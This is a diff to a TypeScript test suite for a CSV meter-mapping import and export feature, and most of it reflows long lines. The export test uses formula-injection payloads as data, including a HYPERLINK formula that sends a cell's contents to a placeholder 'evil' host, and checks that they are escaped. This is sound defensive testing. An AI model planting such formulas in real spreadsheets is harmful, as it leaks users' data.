@@ -15,7 +15,10 @@ describe('mapping import plan', () => {
   });
 
   it('reports every unknown and duplicate id with its line', () => {
-    const plan = planImport('connection_id,external_id,internal_meter_id\nc1,m1,A\nc1,nope,B\nc1,m1,C\nc1,m2,A\n', KNOWN);
+    const plan = planImport(
+      'connection_id,external_id,internal_meter_id\nc1,m1,A\nc1,nope,B\nc1,m1,C\nc1,m2,A\n',
+      KNOWN,
+    );
     expect(plan.problems.map((p) => [p.line, p.kind])).toEqual([
       [3, 'unknown_meter'],
       [4, 'duplicate_meter'],
@@ -25,9 +28,15 @@ describe('mapping import plan', () => {
 
   it('refuses a wrong header, short rows and broken quoting', () => {
     expect(planImport('meter,internal\nx,y\n', KNOWN).problems[0]!.kind).toBe('header');
-    expect(planImport('connection_id,external_id,internal_meter_id\nc1,m1\n', KNOWN).problems[0]!.kind).toBe('syntax');
-    expect(planImport('connection_id,external_id,internal_meter_id\nc1,"m1,A\n', KNOWN).problems[0]!.kind).toBe('syntax');
-    expect(planImport('connection_id,external_id,internal_meter_id\n,m1,A\n', KNOWN).problems[0]!.kind).toBe('missing_value');
+    expect(planImport('connection_id,external_id,internal_meter_id\nc1,m1\n', KNOWN).problems[0]!.kind).toBe(
+      'syntax',
+    );
+    expect(
+      planImport('connection_id,external_id,internal_meter_id\nc1,"m1,A\n', KNOWN).problems[0]!.kind,
+    ).toBe('syntax');
+    expect(planImport('connection_id,external_id,internal_meter_id\n,m1,A\n', KNOWN).problems[0]!.kind).toBe(
+      'missing_value',
+    );
   });
 
   it('accepts its own export back (apostrophe-escaped formulas are unescaped)', () => {
@@ -46,7 +55,11 @@ describe('mapping export', () => {
       { connection_id: 'c1', external_id: 'plain, with comma', internal_meter_id: null },
     ]);
     const rows = parseCsv(csv);
-    expect(rows.map((r) => r.external_id)).toEqual(["'-2+3", '\'=HYPERLINK("http://evil/?d="&A1)', 'plain, with comma']);
+    expect(rows.map((r) => r.external_id)).toEqual([
+      "'-2+3",
+      '\'=HYPERLINK("http://evil/?d="&A1)',
+      'plain, with comma',
+    ]);
     expect(rows.map((r) => r.internal_meter_id)).toEqual(["'@SUM(1)", "'+cmd", '']);
     for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@]/);
     expect(unescapeFormula("'=x")).toBe('=x');
